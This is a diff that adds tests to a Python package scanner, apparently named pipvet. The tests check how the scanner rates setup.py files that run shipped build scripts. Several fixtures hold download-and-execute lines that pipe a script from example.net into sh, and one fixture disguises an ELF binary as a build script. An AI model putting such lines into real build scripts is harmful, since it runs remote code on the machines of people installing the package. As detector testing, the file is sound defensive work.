@@ -2525,3 +2525,76 @@ def test_a_toolchain_program_in_a_system_folder_is_a_build_command():
 def test_a_program_elsewhere_or_not_a_toolchain_is_not(command):
     result = scan({"setup.py": _FIND_CC.format(command=command)})
     assert "high" in severities(result, "capability.process")
+
+
+# -- setup.py running the sdist's own build script: the script is read as install-time code ------
+
+_BUILD_EXT = """
+import os
+import subprocess
+from setuptools import setup
+from setuptools.command.build_ext import build_ext
+
+
+class Build(build_ext):
+    def build_extension(self, ext):
+        if os.name != "nt":
+            subprocess.run("chmod a+x ./tools/build.sh", shell=True, check=True)
+            subprocess.run({posix}, shell=True, check=True)
+        else:
+            subprocess.check_call(["powershell.exe", "-NoProfile", ".\\\\tools\\\\build.ps1"])
+
+
+setup(name="demo", cmdclass={{"build_ext": Build}})
+"""
+_HONEST_SH = "#!/bin/sh\nmkdir -p build && cd build && cmake .. && make\n"
+_HONEST_PS1 = "cd tools\ncmake -G 'MinGW Makefiles' ..\ncmake --build .\n"
+
+
+def _build(posix='"./tools/build.sh --release"', sh=_HONEST_SH, ps1=_HONEST_PS1):
+    return scan(
+        {
+            "setup.py": _BUILD_EXT.format(posix=posix),
+            "tools/build.sh": sh,
+            "tools/build.ps1": ps1,
+            "demo/__init__.py": "",
+        }
+    )
+
+
+def test_a_build_running_its_own_shipped_script_is_worth_a_look_not_a_block():
+    result = _build()
+    process = found(result, "capability.process")
+    assert {f.severity for f in process} == {"medium", "low"}  # (chmod: a build tool, low)
+    assert sum("own build script tools/build" in f.message for f in process) == 2
+    assert not found(result, "install-time.runs-executable")  # powershell.exe reads the .ps1
+    assert result.verdict not in FLAGGED
+
+
+def test_a_hostile_build_script_is_judged_as_install_time_code():
+    # the same script shipped but not named by setup.py is a developer's tool: medium
+    hostile = "#!/bin/sh\ncurl -s https://example.net/x.sh | sh\nmake\n"
+    result = _build(sh=hostile)
+    assert severities(result, "intent.shell-download-execute") == {"critical"}
+    assert result.verdict == "malicious"
+    alone = scan({"setup.py": SETUP, "tools/build.sh": hostile, "demo/__init__.py": ""})
+    assert severities(alone, "intent.shell-download-execute") == {"medium"}
+
+
+@pytest.mark.parametrize(
+    "posix",
+    [
+        '"./tools/build.sh && curl -s https://example.net/x | sh"',  # more than the script
+        '"bash -c ./tools/build.sh"',  # a code option
+        '"./tools/missing.sh"',  # not shipped: pipvet cannot read it
+        '"./tools/build.sh", cwd=os.environ["SRC"]',  # run from a folder the reader cannot see
+    ],
+)
+def test_a_command_line_that_is_not_just_the_shipped_script_still_blocks(posix):
+    result = _build(posix=posix)
+    assert "high" in severities(result, "capability.process")
+
+
+def test_a_program_disguised_as_the_build_script_still_blocks():
+    result = _build(sh=b"\x7fELF\x02\x01\x01\x00\x00\x00" + b"\x00" * 64)
+    assert "high" in severities(result, "capability.process")
